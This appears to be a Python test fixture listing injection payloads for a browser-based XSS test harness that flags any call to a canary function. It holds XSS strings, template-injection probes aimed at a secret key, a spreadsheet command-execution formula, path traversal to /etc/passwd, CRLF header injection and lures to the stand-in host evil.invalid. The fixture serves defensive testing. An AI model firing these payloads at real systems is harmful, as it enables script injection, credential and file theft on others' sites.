"""Names that want more than to be read: each calls ``canary``, loads from elsewhere, or computes.

``canary(…)`` is known to every page that browser_xss.py opens and tells on whoever calls it.
"""

from __future__ import annotations

# No host has this name (RFC 6761), no identifier these digits.
ELSEWHERE = "evil.invalid"
SUM, RESULT = "99991*99989", "9998000099"

NAMES: tuple[str, ...] = (
    # Elements
    "<script>canary(1)</script>",
    '"><script>canary(2)</script>',
    "</title></textarea></style><script>canary(3)</script>",
    "<img src=x onerror=canary(4)>",
    "'><img src=x onerror=canary(5)><x-canary>",
    "<svg/onload=canary(6)>",
    "<svg><animate onbegin=canary(7) attributeName=x dur=1s><script>canary(7)</script></svg>",
    "<math><mtext></p><style><img src onerror=canary(8)></style></math>",
    '<iframe srcdoc="<script>parent.canary(9)</script>"></iframe>',
    "<details open ontoggle=canary(10)><x-canary>",
    f"<base href=//{ELSEWHERE}/><link rel=stylesheet href=x.css>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}/">',
    f"--><!--]]><form action=//{ELSEWHERE}><x-canary>",
    # Attributes
    '" autofocus onfocus=canary(11) data-canary="',
    "' autofocus onfocus='canary(12)' data-canary='",
    "` onclick=canary(13) style=background:url(//evil.invalid/x)",
    # Addresses
    "javascript:canary(14)",
    '<a href="java\tscript:canary(15)">x</a>',
    "data:text/html,<script>canary(16)</script>",
    f"//{ELSEWHERE}/%2e%2e",
    # Strings of scripts, and what is read twice
    "</script><script>canary(17)</script>",
    "';canary(18);//",
    '"-canary(19)-"\\',
    "&lt;img src=x onerror=canary(20)&gt;",
    "%3Cscript%3Ecanary(21)%3C/script%3E",
    "\\u003cimg src=x onerror=canary(22)\\u003e",
    "\uff1cscript\uff1ecanary(23)\uff1c/script\uff1e",
    # Templates
    f"{{{{{SUM}}}}}${{{SUM}}}#{{{SUM}}}<%= {SUM} %>",
    "{% debug %}{{ settings.SECRET_KEY }}{{constructor.constructor('canary(24)')()}}",
    # Spreadsheets
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    # Files and headers
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a\r\nSet-Cookie: canary=1\r\n\r\n<script>canary(25)</script>",
    'a"; filename="evil.exe',
    # Letters
    "\u202efdp.exe\u2066\u200f<b>مرحبا</b>",
    "nul\0byte\x1b[31m<x-canary>" + "W" * 300,
)


def fit(name: str, length: int) -> str:
    """Return as much of a name as a column of the database takes, which is all but NUL."""
    return name.replace("\0", "\N{SYMBOL FOR NULL}")[:length]
